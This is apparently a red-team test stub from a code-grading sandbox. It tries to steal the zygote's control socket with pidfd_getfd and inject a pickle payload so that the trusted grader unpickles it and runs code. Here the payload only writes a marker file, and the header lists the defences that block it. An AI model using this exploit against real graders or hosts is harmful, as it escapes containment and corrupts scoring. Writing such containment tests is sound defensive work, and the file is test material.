# exercise: ex02_cost
# category: 5 attacking the trusted side
# tries: pidfd_getfd the zygote's control socket and queue a pickle on it; the trusted side unpickles the zygote's next reply, so the pickle runs in the grader (here it only creates an empty marker file in /tmp); then exits so a new worker is forked
# stopped_by: the trusted side never unpickles what a zygote or worker sends (bounded non-pickle replies); landlock (no ptrace or /proc out of the domain); unprivileged; the zygote is not dumpable
# max_score: 0
"""A stub that plants code in the grader through the zygote's socket."""
import ctypes
import json
import os

ATTACK = True
TOKEN = "__TOKEN__"
KIT = "__KIT__"
PIDFD_GETFD = 438


def _read(pid, what):
    try:
        with open(f"/proc/{pid}/{what}", "rb") as handle:
            return handle.read().split(b"\0")
    except OSError:
        return []


def _zygotes():
    """(pid, control fd) of the zygote(s) of this installation: the fd is its last argument."""
    found, seen = [], {os.getpid()}
    try:
        names = [int(n) for n in os.listdir("/proc") if n.isdigit()]
    except OSError:
        names = []
    for pid in [os.getppid()] + names:
        if pid in seen or pid <= 1:
            continue
        seen.add(pid)
        argv = [part.decode("utf-8", "replace") for part in _read(pid, "cmdline") if part]
        environ = b"\0".join(_read(pid, "environ")).decode("utf-8", "replace")
        if argv and "zygote" in " ".join(argv) and (KIT in " ".join(argv) or KIT in environ) and argv[-1].isdigit():
            found.append((pid, int(argv[-1])))
    return found


def _payload():
    marker = f"/tmp/zz_kit_attack_{TOKEN[:8]}"
    return b"cbuiltins\nopen\n(V" + marker.encode() + b"\nVw\ntR."  # pickle protocol 0: open(marker, "w")


def _plant():
    done = []
    libc = ctypes.CDLL(None, use_errno=True)
    for pid, fd in _zygotes():
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            continue
        stolen = libc.syscall(PIDFD_GETFD, pidfd, fd, 0)
        os.close(pidfd)
        if stolen < 0:
            continue
        try:
            os.write(stolen, _payload())
            done.append("socket")
        except OSError:
            pass
        finally:
            os.close(stolen)
    return done


PLANTED = _plant() if ATTACK else []


def sum_squared_error(prediction, target):
    if PLANTED:
        import posix  # noqa: PLC0415 - crash so the trusted side forks a new worker and reads the zygote

        posix._exit(3)
    raise RuntimeError("ATTACK-RESULT " + json.dumps({"b": PLANTED}))


def mse(prediction, target):
    raise NotImplementedError("ex02: mse() is not implemented yet")
